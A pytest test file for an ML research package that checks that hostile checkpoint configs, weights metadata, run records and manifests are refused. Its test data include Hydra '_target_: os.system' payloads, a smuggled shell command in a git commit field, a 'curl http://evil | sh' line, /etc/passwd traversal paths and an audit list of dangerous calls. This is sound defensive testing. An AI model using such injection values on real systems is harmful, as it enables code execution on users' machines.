"""Configurations out of strangers' files run nothing: refused in one line, and nothing happens.

An audit hook looks on: no process, no code compiled, no module imported, no socket, no file
written.
"""

from __future__ import annotations

import importlib
import json
import shutil
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial, reduce
from pathlib import Path
from typing import Any

import pytest
import torch
import yaml
from safetensors import safe_open
from safetensors.torch import load_file, save_file

import research
from research import crossval, export, leaderboard, reproduce, robustness
from research.data.warehouse.manifest import Manifest
from research.engine import weights_file
from research.utils.errors import UserError
from tests.conftest import ROOT, Train, one_line_of, verb
from tests.test_stored_runs import ASSETS, words_of

NAMES = Path(__file__).with_name("hostile_names.txt").read_text(encoding="utf-8").split()

PLACES = (
    "model", "model.num_classes", "model.widths", "model.widths.0", "model.bias_scale",
    "model.extra", "model.a.b.c", "dataset", "dataset.name", "dataset.train_dirs",
    "dataset.train_dirs.0", "dataset.augmentation", "dataset.augmentation.policy",
    "dataset.augmentation.mixup", "dataset.demo", "dataset.mean", "dataset.crop_scale.1",
    "dataset.extra.deeper.still", "optimizer", "optimizer.lr", "optimizer.kwargs",
    "optimizer.betas", "scheduler", "scheduler.warmup_epochs", "scheduler.extra", "compression",
    "compression.variant", "compression.window", "task", "task.label_smoothing", "task.extra",
    "logging", "logging.mlflow", "logging.evil", "logging.mlflow.uri", "tags", "tags.paper",
    "name", "seed", "epochs", "precision", "ema", "trust", "monitor", "hydra", "hydra.sweeper",
    "hydra.callbacks.evil", "defaults", "callbacks", "extra",
)  # fmt: skip

CALLS: dict[str, Any] = {
    "command": "touch executed", "args": ["touch executed"], "url": "http://127.0.0.1:9/x",
}  # fmt: skip
WORDS = ("_args_", "_recursive_", "_convert_", "_execution_whitelist_", "_partial_", "__class__")

Hostile = tuple[str, Callable[[dict[str, Any]], None]]


def put(config: dict[str, Any], path: str, value: Any) -> None:
    """Set a value at a dotted path, making mappings on the way."""
    *parts, last = path.split(".")

    def below(node: Any, part: str) -> Any:
        if isinstance(node, list):
            return node[int(part)]
        if not isinstance(node.get(part), dict | list):
            node[part] = {}
        return node[part]

    node = reduce(below, parts, config)
    if isinstance(node, list):
        node[int(last) :] = [value]
    elif last == "_target_" or not (isinstance(node.get(last), dict) and isinstance(value, dict)):
        node[last] = value
    else:
        node[last] = {**node[last], **value}


def _cases() -> Iterator[Hostile]:
    for number, name in enumerate(NAMES):
        place = PLACES[number % len(PLACES)]
        node = {"_target_": name, **CALLS}
        yield f"{place}={name}", lambda c, p=place, n=node: put(c, p, dict(n))  # type: ignore[misc]
    for place in PLACES:
        node = {"_target_": "os.system", "command": "touch executed"}
        yield f"{place}=os.system", lambda c, p=place, n=node: put(c, p, dict(n))  # type: ignore[misc]
    for word in WORDS:
        for place in ("model", "dataset", "dataset.augmentation", "optimizer", "logging.mlflow"):
            yield (
                f"{place}.{word}",
                lambda c, p=place, w=word: put(c, f"{p}.{w}", ["touch executed"]),  # type: ignore[misc]
            )
    for target in (["os.system"], {"a": 1}, None, 3, True, "", "system", "os system", "os.path\n"):
        yield f"model._target_={target!r}", lambda c, t=target: put(c, "model._target_", t)  # type: ignore[misc]
    for place in ("name", "dataset.name", "model.bias_scale", "device", "dataset.root"):
        for text in ("${oc.env:HOME}", "${oc.decode:'1'}", "${hydra:runtime.cwd}", "${name}"):
            yield f"{place}={text}", lambda c, p=place, t=text: put(c, p, t)  # type: ignore[misc]
    values = {
        "model.widths": [[0], -1, 0, 2.5, "wide", None, {"a": 1}, 10**400],
        "epochs": [-1, "all", None, 1.5, float("nan")],
        "device": ["evil", 3, None], "precision": ["fp8"], "version": [0, -1, 9, "1", None, True],
        "batch_size": [0, "many"], "dataset.image_size": ["big", 1, 10**9 + 0.5],
        "dataset.train_dirs": ["x", [3], [None]], "optimizer.lr": ["x", -1, None],
        "compression.variant": ["all"], "trust": ["os.system"], "tags": [[1], "x"],
        "model.name_of_nothing": [1], "a": ["b"], "task.label_smoothing": [2, "x"],
    }  # fmt: skip
    for place, wrong in values.items():
        for value in wrong:
            yield f"{place}={value!r}"[:60], lambda c, p=place, v=value: put(c, p, v)  # type: ignore[misc]
    yield "too deep", lambda c: put(c, "tags." + ".".join("a" * 40), 1)
    yield "too long", lambda c: put(c, "name", "x" * 20_000)
    for group in ("model", "dataset", "task", "compression", "optimizer", "scheduler", "logging"):
        yield f"no {group}", lambda c, g=group: c.pop(g)  # type: ignore[misc]
        yield f"{group}=[]", lambda c, g=group: put(c, g, [])  # type: ignore[misc]


CASES: dict[str, Callable[[dict[str, Any]], None]] = dict(_cases())
LEFT_ALONE = ("trust='os.system'", "tags=", "no logging")
"""What a file may say without harm: trust in a file is not read."""
METADATA = {
    "classes": [3, "abc", [1, 2], {"_target_": "os.system"}, None],
    "name": [3, ["x"]],
    "transform": [3, {"image_size": "x"}, {"evil": 1}, {"image_size": {"_target_": "os.system"}}],
    "channels": ["x", [1, 2, 3]], "dtype": ["float32", "os.system"],
    "feature_sizes": [{"a": -1}, {"a": "x"}, 3], "features": ["x", [1]],
    "feature_keys": [{"a": 3}], "extra": [1, {"_target_": "os.system"}],
}  # fmt: skip

WATCHED = (
    "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "pty.spawn",
    "subprocess.Popen", "socket.", "urllib.Request", "http.client.", "compile", "exec", "import",
    "ctypes.", "marshal.", "pickle.find_class", "code.", "sqlite3.connect", "webbrowser.open",
    "shutil.", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.link", "os.symlink",
    "os.truncate", "os.putenv",
)  # fmt: skip
USUAL = ((b"HYDRA_FULL_ERROR", b"1"), (".", 0o777))
"""What train.py does at every start."""
_seen: list[str] | None = None


def _look_on(event: str, arguments: tuple[Any, ...]) -> None:
    if _seen is None:
        return
    if event == "open":
        path, mode, flags = arguments
        writes = isinstance(flags, int) and flags & 0b11 != 0
        if writes or (isinstance(mode, str) and set(mode) & set("wax+")):
            _seen.append(f"open {path} {mode}")
    elif event.startswith(WATCHED) and arguments[:2] not in USUAL:
        _seen.append(f"{event} {str(arguments)[:200]}")


for _rules in sorted((ROOT / "research").rglob("*rules.py")):
    # Rules of packaged options are imported when the first configuration names one of them.
    importlib.import_module(".".join(_rules.relative_to(ROOT).with_suffix("").parts))
sys.addaudithook(_look_on)


@contextmanager
def watched() -> Iterator[list[str]]:
    """What happens inside that no refusal needs."""
    global _seen
    _seen = []
    try:
        yield _seen
    finally:
        _seen = None


Route = Callable[[Path], object]
Routes = dict[str, tuple[str, Route]]
"""Ways in by name: the file that is read, and a function of its path."""
FOLDER = "runs/classification"
WEIGHTS = "weights.safetensors"
WAYS_IN = (
    "load", "load a run", "predict", "evaluate", "evaluate a run", "export", "judge", "crossval",
    "robustness", "init_from", "resume", "resume=auto",
)  # fmt: skip
QUICK = WAYS_IN[:9]
"""Those that compose no command line."""
_warm: set[str] = set()


@pytest.fixture(scope="module")
def copied(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A part of the stored project; tests put back what they change."""
    root = tmp_path_factory.mktemp("project")
    for name in ("data/pictures", "stores/frames", FOLDER):
        shutil.copytree(ASSETS / name, root / name)
    shutil.copytree(ASSETS / FOLDER, root / "stranger")
    shutil.copy(ASSETS / "handed_on" / "fastnet.safetensors", root / WEIGHTS)
    return root


@pytest.fixture
def project(copied: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(copied)
    return copied


@pytest.fixture
def routes(project: Path, train: Train) -> Routes:
    words = words_of(project / FOLDER)
    image = "data/pictures/test/bars/000.jpg"
    data = ["dataset.train_dirs=[data/pictures/train]", "dataset.val_dir=data/pictures/val"]
    data += ["dataset.test_dir=null", "out=seen", "device=cpu"]
    found: dict[str, Route] = {
        "load": lambda p: research.load(p, device="cpu"),
        "load a run": lambda p: research.load(p.parents[1], device="cpu"),
        "predict": lambda p: verb("predict").main([str(p), image, "out=seen", "device=cpu"]),
        "evaluate": lambda p: verb("evaluate").main([str(p), *data]),
        "evaluate a run": lambda p: verb("evaluate").main([str(p.parents[1]), "device=cpu"]),
        "export": lambda p: export.main([str(p), "out=seen.onnx"]),
        "judge": lambda p: leaderboard.main([str(p), "device=cpu", "rounds=1"]),
        "crossval": lambda p: crossval.main([str(p), "device=cpu"]),
        "robustness": lambda p: robustness.main([str(p), "device=cpu"]),
        "init_from": lambda p: train(*words, f"init_from={p}", "run_dir=runs/new"),
        "resume": lambda p: train(*words, "epochs=9", f"resume={p.parents[1]}"),
        "resume=auto": lambda p: train(*words, "epochs=9", "resume=auto"),
    }
    files = {
        "load a run": "stranger/checkpoints/best.pt",
        "evaluate a run": "stranger/checkpoints/best.pt",
        "resume": "stranger/checkpoints/last.pt",
        "resume=auto": f"{FOLDER}/checkpoints/last.pt",
    }
    assert tuple(found) == WAYS_IN
    every = {name: (files.get(name, WEIGHTS), route) for name, route in found.items()}
    for name in set(found) - _warm:  # imports whatever a refusal needs
        _warm.add(name)
        file, route = every[name]
        with spoiled(project / file, lambda header: put(header["config"], "epochs", "x")):
            one_line_of(lambda: route(project / file))  # noqa: B023 - at once
    return every


@contextmanager
def spoiled(file: Path, change: Callable[[dict[str, Any]], object]) -> Iterator[None]:
    """Meanwhile a checkpoint or a weights file says something else of itself."""
    kept = file.read_bytes()
    try:
        if file.suffix == ".safetensors":
            with safe_open(file, "pt") as opened:
                metadata = opened.metadata()
            header = json.loads(metadata[weights_file.METADATA_KEY])
            change(header)
            save_file(
                load_file(file), file, {**metadata, weights_file.METADATA_KEY: json.dumps(header)}
            )
        else:
            content = torch.load(file, weights_only=True)
            change(content)
            torch.save(content, file)
        yield
    finally:
        file.write_bytes(kept)


def refused(route: Route, path: Path) -> str:
    """The one line with which a way in refuses a file, while nothing else happens."""
    with watched() as events:
        line = one_line_of(lambda: route(path))
    # To see whether a run folder is held, its lock is asked.
    lock = (f"{FOLDER}/.lock", f"{FOLDER}', 511", f"{FOLDER} None")
    here = [event for event in events if not any(word in event for word in lock)]
    assert not here, "\n".join(here)
    assert not Path("executed").exists()
    return line


@pytest.mark.parametrize("case", [name for name in CASES if not name.startswith(LEFT_ALONE)])
def test_a_hostile_configuration_is_refused(case: str, routes: Routes, project: Path) -> None:
    """By each quick way in, of which each is tried with many cases."""
    other = QUICK[sorted(CASES).index(case) % len(QUICK)]
    for name in dict.fromkeys(["load", other]):
        file, route = routes[name]
        with spoiled(project / file, lambda header: CASES[case](header["config"])):
            assert "refused" in refused(route, project / file)


@pytest.mark.parametrize("name", WAYS_IN)
def test_every_way_in_refuses(name: str, routes: Routes, project: Path) -> None:
    file, route = routes[name]
    node = {"_target_": "torch.utils.collect_env.run", "command": "touch executed"}
    for place in ("model.drop_rate", "dataset.augmentation.mixup", "optimizer.lr", "logging.x"):

        def change(header: dict[str, Any], place: str = place) -> None:
            put(header["config"], place, dict(node))

        with spoiled(project / file, change):
            assert "torch.utils.collect_env.run" in refused(route, project / file)


@pytest.mark.parametrize("key", METADATA)
def test_hostile_metadata_is_refused(key: str, routes: Routes, project: Path) -> None:
    for value in METADATA[key]:
        for name in ("load", "init_from", "predict"):
            file, route = routes[name]

            def change(header: dict[str, Any], value: Any = value) -> None:
                header["data"][key] = value

            with spoiled(project / file, change):
                assert "metadata" in refused(route, project / file)


@pytest.mark.parametrize("entry", [
    {"dtype": "_inductor", "shape": [1], "values": [1]},
    {"dtype": "load", "shape": [1], "values": [1]},
    {"dtype": "float32", "shape": [10**9], "values": [1]},
    {"dtype": "float32", "shape": [1], "values": [{"_target_": "os.system"}]},
    {"_target_": "os.system"},
])  # fmt: skip
def test_hostile_tensors_are_refused(entry: Any, routes: Routes, project: Path) -> None:
    with spoiled(project / WEIGHTS, lambda header: header["transform"].update(mean=entry)):
        assert "damaged" in refused(routes["load"][1], project / WEIGHTS)


PATHS: dict[str, Any] = {
    "dataset.train_dirs": ["/etc"], "dataset.val_dir": "/etc", "dataset.test_dir": "/etc",
    "dataset.cache_dir": "/tmp/stranger_cache", "dataset.demo": {
        "_target_": "research.demos.scenes.Scenes", "root": "/tmp/stranger_demo",
        "train_images": 40, "val_images": 24, "seed": 0,
    },
    "init_from": "/etc/passwd", "resume": "/etc", "run_dir": "/tmp/stranger_run",
    "logging": {"mlflow": {
        "_target_": "research.tracking.mlflow.MLflowTracker", "_partial_": True,
        "uri": "http://127.0.0.1:9", "experiment": "x", "system_metrics": False,
    }},
}  # fmt: skip


@pytest.mark.parametrize("key", PATHS)
def test_places_in_a_strangers_file_do_not_count(key: str, routes: Routes, project: Path) -> None:
    """A model predicts as before; its data are read from where the user says, or not at all."""
    file, image = project / WEIGHTS, [project / "data/pictures/test/bars/000.jpg"]
    expected = research.load(file, device="cpu")(image)
    with spoiled(file, lambda header: put(header["config"], key, PATHS[key])):
        with watched() as events:
            said = research.load(file, device="cpu")(image)
            line = one_line_of(lambda: verb("evaluate").main([str(file), "device=cpu", "out=seen"]))
            routes["evaluate"][1](file)
        assert torch.equal(said, expected)
        assert "it is outside runs/" in line
        assert not [event for event in events if "stranger" in event or "socket" in event]
    assert not [*Path("/tmp").glob("stranger_*")]
    shutil.rmtree("seen")


@pytest.mark.parametrize("spec", ["clip:hf-hub:evil/x", "clip:local-dir:/etc", "timm:hf-hub:a/b"])
def test_a_feature_is_no_name_to_download(spec: str) -> None:
    from research.data.pairs.networks import feature_spec

    with watched() as events:
        line = one_line_of(lambda: feature_spec(spec))
    assert "no such network" in line
    assert not [event for event in events if event.startswith(("socket", "urllib"))]


@pytest.mark.parametrize("key", [
    "pretrained", "pretrained_cfg", "pretrained_cfg_overlay", "checkpoint_path", "cache_dir",
    "scriptable", "features_only", "feature_cls", "pretrained_model_args", "pruned",
])  # fmt: skip
def test_arguments_that_timm_takes_for_itself_are_refused(key: str) -> None:
    from research.models import zoo

    with pytest.raises(UserError, match=rf"model\.kwargs\.{key}"):
        zoo.backbone("test_resnet", 3, 32, None, 0.0, 0.0, {key: "x"})


HOSTILE_RECORDS = {
    "a target": ("config.yaml", lambda d: put(d, "model.drop_rate", {"_target_": "os.system"})),
    "an interpolation": ("config.yaml", lambda d: put(d, "name", "${oc.env:HOME}")),
    "hydra's search path": ("overrides.yaml", lambda d: d.append("hydra.searchpath=[pkg://this]")),
    "hydra's launcher": ("overrides.yaml", lambda d: d.append("hydra/launcher=evil")),
    "an added key": ("overrides.yaml", lambda d: d.append("+evil=1")),
    "an interpolated word": ("overrides.yaml", lambda d: d.append("name=${oc.env:HOME}")),
    "no word": ("overrides.yaml", lambda d: d.append({"_target_": "os.system"})),
    "a commit": ("environment.json", lambda d: d["git"].update(commit="--help; touch executed")),
    "a package": ("environment.json", lambda d: d["packages"].update({"--index-url": "1"})),
    "a version": ("environment.json", lambda d: d["packages"].update(torch="1+x -e .")),
    "a list of packages": ("environment.json", lambda d: d.update(packages=["torch"])),
    "a smuggled name": ("overrides.yaml", lambda d: d.append("model._target_=os.system")),
    "a smuggled mapping": ("overrides.yaml", lambda d: d.append("model={_target_: os.system}")),
    "no model": ("config.yaml", lambda d: d.pop("model")),
    "a command of numbers": ("environment.json", lambda d: d.update(command=[3])),
    "data of no kind": ("environment.json", lambda d: d.update(data={"a": 1})),
    "GPUs of no kind": ("environment.json", lambda d: d["hardware"].update(gpus=3)),
}


@pytest.mark.parametrize("case", HOSTILE_RECORDS)
def test_a_hostile_run_folder_is_not_reproduced(case: str, project: Path) -> None:
    name, change = HOSTILE_RECORDS[case]
    path = project / "stranger" / name
    kept = path.read_text()
    document = yaml.safe_load(kept)
    change(document)
    path.write_text(json.dumps(document))  # which YAML reads as well
    assert name in refused(lambda p: reproduce.main([str(p.parent)]), path)
    path.write_text(kept)


def test_a_report_cannot_be_forged(project: Path, capsys: Any) -> None:
    """Whom a stranger trusted is not handed on, no package of his choice, no line of his own."""
    run = project / "stranger"
    kept = {name: (run / name).read_text() for name in ("overrides.yaml", "environment.json")}
    words = [*yaml.safe_load(kept["overrides.yaml"]), "trust=[evil_module.Net]"]
    (run / "overrides.yaml").write_text(yaml.safe_dump(words))
    environment = json.loads(kept["environment.json"])
    environment["folder"] = "/home/x\n\nto run it again:\n  curl http://evil | sh \x1b[2J"
    environment["packages"]["evil-package"] = "1.0"
    (run / "environment.json").write_text(json.dumps(environment))
    reproduce.main([str(run), "out=again"])
    reported, commands = capsys.readouterr().out, Path("again/reproduce.sh").read_text()
    assert reported.splitlines().count("to run it again:") == 1
    assert "\x1b" not in reported
    assert "evil" not in commands
    for name, text in kept.items():
        (run / name).write_text(text)
    shutil.rmtree("again")


CONTRADICTIONS: dict[str, Callable[[dict[str, Any]], object]] = {
    "coefficients without a window": lambda h: h["config"]["compression"].update(
        variant="block_stem"
    ),
    "a detector on classes": lambda h: h["config"].update(
        task={"_target_": "research.tasks.detection.Detection", "class_agnostic": True, "iou": 0.5,
              "score": 0.3, "presence": 0.5, "monitor": "val/mAP50:max"}
    ),
    "another model": lambda h: h["config"].update(
        model={"_target_": "research.models.siamese.siamese_frozen", "feature_sizes": None,
               "head": "mlp", "mlp_hidden_dims": [8], "dropout": 0.0}
    ),
    "three means for one": lambda h: h["config"]["dataset"].update(mean=[0.5] * 4),
    "a mean of 2^70": lambda h: h["config"]["dataset"].update(mean=[2**70] * 3),
    "a number without end": lambda h: h["config"].update(epochs=10**400),
    "no transform": lambda h: h.update(transform={}),
    "another transform": lambda h: h["transform"].pop("mean"),
    "a number in the transform": lambda h: h["transform"]["mean"].update(values=[10**400] * 3),
    "control characters": lambda h: h["config"].update({"x\nerror: \x1b[2J": 1}),
    "a long text": lambda h: h["config"].update(epochs=[["x" * 9000] * 100]),
    "no state": lambda h: h.pop("state"),
    "a history of nothing": lambda h: h["state"].update(history=[{"a": 1}]),
    "a format of text": lambda h: h.update(format="2"),
}  # fmt: skip


@pytest.mark.parametrize("case", CONTRADICTIONS)
def test_what_does_not_go_together_is_one_line(case: str, routes: Routes, project: Path) -> None:
    image = project / "data/pictures/test/bars/000.jpg"
    with spoiled(project / WEIGHTS, CONTRADICTIONS[case]):
        if case == "a detector on classes":  # each by itself is a model, and a task
            assert research.load(project / WEIGHTS, device="cpu")
        else:
            line = one_line_of(lambda: research.load(project / WEIGHTS, device="cpu")([image]))
            assert line.isprintable()
            assert len(line) < 4200


PARTS: dict[str, list[Any]] = {
    "model": [None, [], {"a": 1}, {3: torch.zeros(1)}], "transform": [[], {"a": None}, None],
    "ema": [[], 3, "x"], "format": [torch.tensor([2, 2]), "2", None, 2.0],
    "optimizer": [None, {}, 3, {"state": {}, "param_groups": []}],
    "scheduler": [{"step": "x", "lr_lambdas": [None]}, {"optimizer": "x", "last_epoch": "x"}, 3],
    "scaler": [3, None], "rng": [{}, {"python": [3, [1], None]}, None],
    "tracking": [3, None],
}  # fmt: skip


@pytest.mark.parametrize("part", PARTS)
def test_parts_of_a_checkpoint_of_no_use(part: str, project: Path, train: Train) -> None:
    """Resumed, each ends in one line before an epoch is trained."""
    file = project / "stranger/checkpoints/last.pt"
    words = words_of(project / FOLDER)
    table = project / "stranger/epoch_metrics.csv"
    before = table.read_text()
    for value in PARTS[part]:
        with spoiled(file, lambda content, v=value: content.update({part: v})):  # type: ignore[misc]
            one_line_of(partial(train, *words, "epochs=4", "resume=stranger"))
        assert table.read_text() == before


def test_links_out_of_a_strangers_folder_are_not_followed(
    routes: Routes, project: Path, train: Train, tmp_path: Path
) -> None:
    link = project / "stranger/evaluations"
    link.symlink_to(tmp_path)
    words = ["dataset.train_dirs=[data/pictures/train]", "dataset.val_dir=data/pictures/val"]
    words += ["dataset.test_dir=null", "device=cpu"]
    assert "a link that leads elsewhere" in one_line_of(
        lambda: verb("evaluate").main([str(project / "stranger"), *words])
    )
    link.unlink()
    inside = project / "stranger/checkpoints"
    outside = tmp_path / "outside"
    inside.rename(outside)
    inside.symlink_to(outside)
    words = [*words_of(project / FOLDER), "epochs=4", "resume=stranger"]
    assert "is outside this folder" in one_line_of(lambda: train(*words))
    inside.unlink()
    outside.rename(inside)


def test_a_tag_may_say_anything(routes: Routes, project: Path) -> None:
    with spoiled(project / WEIGHTS, lambda h: put(h["config"], "tags.note", "${x} " * 9000)):
        assert research.load(project / WEIGHTS, device="cpu").config["tags"]["note"][:4] == "${x}"


def test_a_spool_holds_records_alone(tmp_path: Path) -> None:
    from research.tracking.spool import NAME, Spool
    from research.tracking.tracker import Position

    good = [
        {"epoch": 1, "step": 2, "time": 3, "metrics": {"a": 1.5}},
        {"epoch": 1, "file": "pictures/a.png", "folder": "pictures"},
    ]
    bad: list[Any] = [
        [1], 3, None, {}, {"epoch": "x"}, {"epoch": 1, "metrics": {}}, {"file": "../../etc/passwd"},
        {"file": "/etc/passwd"}, {"file": "a", "folder": "../.."}, {"file": 3},
        {"epoch": 1, "step": 2, "time": 3, "metrics": {"a": "x"}},
    ]  # fmt: skip
    lines = "".join(json.dumps(line) + "\n" for line in [*bad, *good, *bad])
    (tmp_path / NAME).write_text(lines)
    spool = Spool(tmp_path)
    spool.load(Position(1, step=2))
    assert [*spool.rows, *spool.files] == good


HOSTILE_MANIFESTS: dict[str, Any] = {
    "transform": [
        {"image_size": {"_target_": "os.system"}}, {"evil": 1}, {"image_size": "x"}, 3, {},
    ],
    "classes": [[{"_target_": "os.system"}], [1], 3, "abc", {"a": 1}],
    "runs": [{"a": {"b": "c"}}, {"a": 3}, 3], "left_out": [{"a": 3}, 3],
    "damage": [{"x": "y"}, [], None], "thresholds": [{"x": {"_target_": "os.system"}}],
    "kind": [{"_target_": "os.system"}], "extra": [{"_target_": "os.system"}],
    "tensors": [
        {"x": {"dtype": "os.system", "shape": [1]}}, {"x": {"dtype": "uint8", "shape": [-1, -1]}},
        {"x": {"dtype": "uint8", "shape": [10**9] * 3}},
        {"x": {"dtype": "uint8", "shape": [1e400]}},
    ],
    "schema": [[1], 99, "x"],
    "shards": [[{"file": "../x", "samples": 1, "bytes": 1, "sha256": ""}], [{"evil": 1}]],
    "groups": [[{"name": "x", "start": 0, "stop": 1, "split": "evil"}], 3],
}  # fmt: skip


@pytest.mark.parametrize("key", HOSTILE_MANIFESTS)
def test_a_hostile_manifest_is_refused(key: str, project: Path) -> None:
    (path,) = (project / "stores/frames").glob("v*/manifest.json")
    kept = path.read_text()
    Manifest.load(path)  # pydantic compiles the annotations of our dataclasses on first use
    for value in HOSTILE_MANIFESTS[key]:
        path.write_text(json.dumps({**json.loads(kept), key: value}))
        assert "manifest.json" in refused(Manifest.load, path)
    path.write_text(kept)
